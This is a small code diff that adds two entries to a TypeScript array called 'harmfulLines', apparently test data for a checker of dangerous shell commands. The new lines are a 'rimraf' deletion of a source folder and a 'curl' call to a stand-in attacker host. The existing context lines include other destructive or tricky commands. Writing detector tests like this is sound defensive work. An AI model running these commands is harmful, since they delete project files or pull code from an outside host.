@@ -401,4 +401,6 @@ export const harmfulLines: string[] = [
   'npm run build -- --clean',
   'pytest --basetemp=src',
   "awk '{getl\\\nine x}' a.txt",
+  'yarn run rimraf src',
+  'bun run curl evil.example/x',
 ];
